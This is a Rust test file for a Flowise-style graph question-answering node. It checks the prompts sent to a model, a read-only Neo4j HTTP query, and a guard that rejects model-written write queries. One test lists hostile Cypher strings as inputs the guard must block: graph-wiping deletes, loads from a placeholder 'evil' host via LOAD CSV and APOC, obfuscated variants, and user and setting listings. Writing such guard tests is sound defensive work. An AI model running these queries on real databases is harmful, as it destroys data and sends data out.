//! Expected: what Flowise 3.1.4's own node asks, of a graph with these labels.

use std::collections::HashMap;
use std::sync::mpsc::Receiver;

use super::*;
use crate::config::Secret;
use crate::engine::compile::context::CompileContext;
use crate::engine::flow::CompiledFlow;
use crate::engine::provider::Targets;
use crate::engine::testing::{Predicted, answer, predict, server};
use crate::telemetry::metrics::Metrics;

fn load(origin: &str, more: &Value) -> Result<CompiledFlow, String> {
    let node = |id: &str, name: &str, inputs: &Value| json!({ "id": id, "data": { "name": name, "label": id, "inputs": inputs } });
    let mut own = json!({ "model": "{{m_0.data.instance}}", "graph": "{{g_0.data.instance}}" });
    own.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    let nodes = [
        node("m_0", "testModel", &json!({})),
        node("g_0", "Neo4j", &json!({})),
        node("c_0", "graphCypherQAChain", &own),
    ];
    let edges = json!([{ "source": "m_0", "target": "c_0" }, { "source": "g_0", "target": "c_0" }]);
    let targets = Targets::alone("local", &Metrics::new().unwrap());
    let field = |name: &str, value: &str| (name.to_owned(), Secret::new(value.to_owned()));
    let fields = HashMap::from([field("url", origin), field("username", "u"), field("password", "p")]);
    let credentials = HashMap::from([("neo4jApi".to_owned(), fields)]);
    let context = Arc::new(CompileContext::new(credentials, targets));
    let loaded = CompiledFlow::load(None, "flow", &json!({ "nodes": nodes, "edges": edges }).to_string(), &context);
    loaded.map_err(|problems| problems.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n"))
}

fn asked(more: &Value, written: &str) -> (Predicted, Receiver<String>) {
    let rows = |fields: Value, values: Value| {
        answer("202 Accepted", "", &json!({ "data": { "fields": fields, "values": values } }).to_string())
    };
    let property = |name: &str, kind: &str| json!({ "property": name, "type": kind });
    let answers = [
        rows(
            json!(["label", "properties"]),
            json!([["Movie", [property("title", "STRING"), property("year", "INTEGER")]]]),
        ),
        rows(json!(["label", "properties"]), json!([["IN", [property("role", "STRING")]]])),
        rows(json!(["label", "property", "end"]), json!([["Actor", "IN", "Movie"]])),
        rows(json!(["n"]), json!([[7]])),
    ];
    let (origin, heard) = server(&answers.each_ref().map(String::as_str));
    let body = json!({ "question": "How many;  movies? // x" });
    (predict(&load(&origin, more).unwrap(), &body, &[written.into(), "Seven.".into()]), heard)
}

#[test]
fn the_model_is_told_of_the_graph_and_of_what_its_query_gave() {
    let (predicted, heard) = asked(&json!({}), "```cypher\nMATCH (m:Movie) RETURN count(m) AS n\n```");
    let content = |at: usize| predicted.asked[at][0]["content"].as_str().unwrap();
    let schema = "Node properties are the following:\nMovie {title: STRING, year: INTEGER}\nRelationship properties are the \
                  following:\nIN {role: STRING  } \nThe relationships are the following:\n(: Actor) - [: IN] -> (:Movie)";
    assert!(content(0).starts_with("Task:Generate Cypher statement to query a graph database."));
    assert!(content(0).contains(&format!("Schema:\n{schema}\nNote: ")), "{}", content(0));
    assert!(content(0).ends_with("The question is:\nHow many movies?"), "{}", content(0));
    let end = "Information:\n[{\"n\":\"7\"}]\n\nQuestion: How many movies?\nHelpful Answer:";
    assert!(content(1).ends_with(end), "{}", content(1));
    assert_eq!(predicted.reply.unwrap().said, ReplyContent::Text("Seven.".into()));
    let heard: Vec<String> = heard.iter().collect();
    assert!(heard[3].starts_with("POST /db/neo4j/query/v2 HTTP/1.1\r\n"), "{}", heard[3]);
    assert!(heard[3].contains("authorization: Basic dTpw\r\n") && heard[3].contains("\"accessMode\":\"READ\""));
    assert!(heard[3].contains("MATCH (m:Movie) RETURN count(m) AS n"), "{}", heard[3]);
}

#[test]
fn a_model_changes_nothing() {
    for query in
        ["MATCH (n) DETACH DELETE n", "match (n) set n.a = 1", "CALL db.labels()", "MATCH (n) RETURN 'x DELETE n"]
    {
        let (predicted, _) = asked(&json!({}), query);
        assert_eq!(predicted.reply.unwrap().said, ReplyContent::Text(format!("Error: {WRITES}")), "{query}");
    }
    for query in [
        "/*'*/ LOAD CSV FROM 'http://evil/?' AS l /*'*/ RETURN l",
        "WITH '\\'' AS a CALL apoc.load.json('http://evil') YIELD value WITH value, '\\'' AS b RETURN value",
        "MATCH (`'`) CREATE (n) RETURN `'`",
        "\\u004cOAD CSV FROM 'http://evil' AS l RETURN l",
        "RETURN 1 // '\nCREATE (n) // '",
        // A query in a text, and what is no part of the graph.
        "RETURN apoc.cypher.runFirstColumnSingle('LO' + 'AD CSV FROM \"http://evil\" AS l RETURN l', {})",
        "RETURN APOC . Cypher.runFirstColumnMany('x', {})",
        "RETURN apoc.static.getAll('')",
        "MATCH (n) RETURN n.apoc",
        "USE other MATCH (n) RETURN n",
        "/* x */ SHOW USERS YIELD *",
        "// x\n ; show settings",
        "CYPHER 25 SHOW USERS",
        "MATCH (n) RETURN n UNION ALL USE other MATCH (n) RETURN n",
        "MATCH (n) RETURN n UNION /* x */ USE other MATCH (n) RETURN n",
        "INSERT (n)",
    ] {
        assert!(writes(query), "{query}");
    }
    for query in [
        "MATCH (s:Show)-[r:USE]->(n) WHERE n.start > 1 RETURN s.show, r.stop, n.`the start`",
        "// all shows\nMATCH (show:Show) RETURN DISTINCT show",
        "MATCH (n) RETURN apoc.text.join(apoc.coll.toSet(collect(n.a)), 'apoc.cypher')",
        "WITH 1 AS a RETURN a UNION ALL MATCH (n) RETURN n.start AS a",
    ] {
        assert!(!writes(query), "{query}");
    }
    assert!(!writes("MATCH (n {name: 'Set and \"delete\"'}) RETURN n.created, n.settled"));
}

#[test]
fn what_a_query_gives_may_be_the_answer() {
    let (predicted, _) = asked(&json!({ "returnDirect": true }), "MATCH (m) RETURN count(m) AS n");
    assert_eq!(predicted.reply.unwrap().said, ReplyContent::Json(json!([{ "n": "7" }])));
    assert_eq!(predicted.asked.len(), 1);
}

#[test]
fn what_is_missing_is_told() {
    let told = load("http://127.0.0.1:1", &json!({ "graph": "" })).unwrap_err();
    assert!(told.contains("input graph: a graph is required"), "{told}");
    let long = "x".repeat(2001);
    let flow = load("http://127.0.0.1:1", &json!({})).unwrap();
    let predicted = predict(&flow, &json!({ "question": long }), &[]);
    let words = "Input rejected: exceeds maximum allowed length of 2000 characters.";
    assert_eq!(predicted.reply.unwrap().said, ReplyContent::Text(words.into()));
}
